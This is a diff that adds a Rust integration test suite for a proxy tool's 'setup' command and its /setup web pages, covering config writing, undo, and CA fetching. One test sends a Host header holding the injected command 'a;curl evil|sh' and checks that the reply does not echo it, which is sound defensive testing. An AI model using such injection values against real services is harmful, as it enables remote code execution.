@@ -1,0 +1,192 @@
+//! `seawall setup` as a command, and `/setup/CLIENT` on the data port.
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+use crate::harness::*;
+use crate::setup::{put, text, tree};
+
+struct Machine {
+    root: tempfile::TempDir,
+    ca: std::path::PathBuf,
+    config: std::path::PathBuf,
+}
+
+impl Machine {
+    fn new(pem: &str) -> Machine {
+        let root = tempfile::tempdir().unwrap();
+        put(root.path(), "ca.pem", pem);
+        put(root.path(), "seawall.toml", &format!("data = {:?}\n", root.path().join("nowhere")));
+        std::fs::create_dir(root.path().join("image")).unwrap();
+        Machine { ca: root.path().join("ca.pem"), config: root.path().join("seawall.toml"), root }
+    }
+
+    fn image(&self) -> std::path::PathBuf {
+        self.root.path().join("image")
+    }
+
+    fn run(&self, words: &[&str]) -> Output {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_seawall"));
+        command.args(["--config".as_ref(), self.config.as_os_str(), "setup".as_ref()]).args(words);
+        command.output().unwrap()
+    }
+
+    /// With the root at hand.
+    fn with_ca(&self, words: &[&str]) -> Output {
+        self.run(&[words, &["--ca", self.ca.to_str().unwrap()]].concat())
+    }
+}
+
+fn out(output: &Output) -> String {
+    assert!(output.status.success(), "{}", err(output));
+    String::from_utf8(output.stdout.clone()).unwrap()
+}
+
+fn err(output: &Output) -> String {
+    String::from_utf8(output.stderr.clone()).unwrap()
+}
+
+const AT: [&str; 2] = ["--address", "seawall.lab:3128"];
+
+fn a_root() -> String {
+    Pki::new().ca_pem()
+}
+
+#[test]
+fn printed_written_taken_back() {
+    let machine = Machine::new(&a_root());
+    let image = machine.image();
+    let image = image.to_str().unwrap();
+    let printed = out(&machine.with_ca(&["docker", AT[0], AT[1]]));
+    for part in [
+        "## File /etc/systemd/system/docker.service.d/seawall.conf",
+        "HTTPS_PROXY=http://seawall.lab:3128",
+        "BEGIN CERTIFICATE",
+    ] {
+        assert!(printed.contains(part), "{part}: {printed}");
+    }
+    let data: serde_json::Value =
+        serde_json::from_str(&out(&machine.with_ca(&["docker", "--json", "--mode", "mirror", AT[0], AT[1]]))).unwrap();
+    assert_eq!((&data["mode"], &data["files"][0]["path"]), (&"mirror".into(), &"/etc/docker/daemon.json".into()));
+
+    put(&machine.image(), "/etc/docker/daemon.json", "{\"debug\": true}\n");
+    let before = tree(&machine.image());
+    let mirror = ["docker", "--mode", "mirror", AT[0], AT[1], "--write", image];
+    let first = machine.run(&mirror);
+    assert!(out(&first).starts_with("changed   /etc/docker/daemon.json\n--- a/etc/docker/daemon.json\n"), "{first:?}");
+    assert!(err(&first).contains("Now run on that machine: systemctl reload docker"), "{first:?}");
+    assert_eq!(out(&machine.run(&mirror)), "unchanged /etc/docker/daemon.json\n");
+
+    let proxy = machine.with_ca(&["docker", AT[0], AT[1], "--write", image]);
+    assert!(err(&proxy).contains("--mode mirror: that is taken back"), "{proxy:?}");
+    assert!(out(&proxy).contains("restored  /etc/docker/daemon.json\n"), "{proxy:?}");
+    let undone = out(&machine.run(&["docker", "--write", image, "--undo"]));
+    assert!(undone.contains("removed   /etc/systemd/system/docker.service.d/seawall.conf\n"), "{undone}");
+    assert_eq!(tree(&machine.image()), before);
+    let nothing = machine.run(&["docker", "--write", image, "--undo"]);
+    assert_eq!((nothing.status.code(), err(&nothing).contains("nothing to undo")), (Some(1), true));
+}
+
+#[test]
+fn what_is_left_is_exit_code_1() {
+    let machine = Machine::new(&a_root());
+    let image = machine.image();
+    out(&machine.run(&["podman", "--mode", "mirror", AT[0], AT[1], "--write", image.to_str().unwrap()]));
+    put(&image, "/etc/containers/registries.conf.d/50-seawall.conf", "# mine\n");
+    let undone = machine.run(&["podman", "--write", image.to_str().unwrap(), "--undo"]);
+    assert_eq!(undone.status.code(), Some(1));
+    assert!(err(&undone).contains("50-seawall.conf"), "{undone:?}");
+    assert_eq!(text(&image, "/etc/containers/registries.conf.d/50-seawall.conf"), "# mine\n");
+}
+
+#[test]
+fn what_cannot_be_is_said() {
+    let machine = Machine::new("no certificate\n");
+    for (words, code, said) in [
+        (&["dockerd"][..], 2, "docker"),
+        (&["docker", "--undo"], 2, "--write"),
+        (&["hosts", "--mode", "mirror", "--address", "10.0.0.7:3128"], 1, "dns"),
+        (&["docker", "--address", "a b"], 1, "--address takes HOST:PORT"),
+        (&["docker", "--address", "127.0.0.1:9"], 1, "--ca FILE"),
+        (&["docker", "--address", "seawall.lab:3128", "--ca", machine.ca.to_str().unwrap()], 1, "ca.pem"),
+    ] {
+        let output = machine.run(words);
+        assert_eq!(output.status.code(), Some(code), "{words:?}: {}", err(&output));
+        assert!(err(&output).contains(said), "{words:?}: {}", err(&output));
+    }
+}
+
+/// Each system has its trust store, and each containerd its keys.
+#[test]
+fn what_is_below_the_root_decides() {
+    let machine = Machine::new(&a_root());
+    let image = machine.image();
+    put(&image, "/etc/os-release", "ID=fedora\n");
+    put(&image, "/etc/containerd/config.toml", "version = 3\n");
+    out(&machine.with_ca(&["docker", AT[0], AT[1], "--write", image.to_str().unwrap()]));
+    assert!(text(&image, "/etc/pki/ca-trust/source/anchors/seawall.pem").contains("BEGIN CERTIFICATE"));
+    out(&machine.run(&["containerd", AT[0], AT[1], "--write", image.to_str().unwrap()]));
+    let config = text(&image, "/etc/containerd/config.toml");
+    assert!(config.starts_with("version = 3\n") && config.contains("io.containerd.cri.v1.images"), "{config}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_machine_without_the_root_asks_seawall_for_it() {
+    let pki = Pki::new();
+    let registry = Registry::new("registry-1.docker.io").start(&pki).await;
+    let seawall = Seawall::before(&registry).start(&pki).await;
+    let machine = Machine::new("");
+    let address = seawall.addr().to_string();
+    let client = Client::plain(seawall.addr());
+    let pem = String::from_utf8(client.get("http://seawall/ca.crt").send().await.unwrap().bytes().to_vec()).unwrap();
+    let output = tokio::task::spawn_blocking(move || machine.run(&["docker", "--address", &address])).await.unwrap();
+    assert!(out(&output).contains(&pem), "{output:?}");
+    let said = err(&output);
+    assert!(said.contains("/ca.crt") && said.contains("sha256 ") && said.matches(':').count() > 31, "{said}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_page_says_what_the_command_says() {
+    let pki = Pki::new();
+    let registry = Registry::new("registry-1.docker.io").start(&pki).await;
+    let users = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(users.path(), format!("ci:{}\n", bcrypt::hash("secret", 4).unwrap())).unwrap();
+    let seawall =
+        Seawall::before(&registry).toml(&format!("[clients]\nusers_file = {:?}", users.path())).start(&pki).await;
+    let client = Client::plain(seawall.addr());
+    let get = async |path: &str| {
+        let reply = client.get(&format!("http://seawall.lab:3128{path}")).send().await.unwrap();
+        assert_eq!(reply.header("content-type"), "text/plain; charset=utf-8", "{path}");
+        (reply.status.as_u16(), String::from_utf8(reply.bytes().to_vec()).unwrap())
+    };
+    let pem = String::from_utf8(client.get("http://seawall/ca.crt").send().await.unwrap().bytes().to_vec()).unwrap();
+    let machine = Machine::new(&pem);
+    for (path, words) in [
+        ("/setup/docker", &["docker"][..]),
+        ("/setup/docker?mode=mirror", &["docker", "--mode", "mirror"]),
+        ("/setup/podman/?x=y&mode=mirror", &["podman", "--mode", "mirror"]),
+        ("/setup/k3s", &["k3s"]),
+    ] {
+        let (status, page) = get(path).await;
+        let printed = out(&machine.with_ca(&[words, &AT].concat()));
+        // A page does not know whose system it is for.
+        let printed_files = printed.split("## Then run").next().unwrap();
+        assert_eq!((status, page.starts_with(printed_files)), (200, true), "{path}:\n{page}\n---\n{printed}");
+    }
+    for (path, said) in [
+        ("/setup/dockerd", "/setup/docker "),
+        ("/setup/hosts?mode=mirror", "?mode=dns"),
+        ("/setup/docker?mode=x", "?mode=proxy"),
+    ] {
+        let (status, page) = get(path).await;
+        assert!(status == 404 && page.contains(said), "{path}: {status} {page}");
+    }
+    let (status, list) = get("/setup").await;
+    assert!(status == 200 && list.contains("/setup/containerd") && list.contains("?mode=mirror"), "{list}");
+    assert!(get("/").await.1.contains("http://seawall.lab:3128/setup"));
+    let hostile =
+        client.get("http://seawall.lab:3128/setup/shell").header("host", "a;curl evil|sh").send().await.unwrap();
+    assert!(!String::from_utf8_lossy(hostile.bytes()).contains("evil"));
+    assert_eq!(registry.requests().len(), 0);
+    assert!(Path::new(&machine.image()).exists());
+}
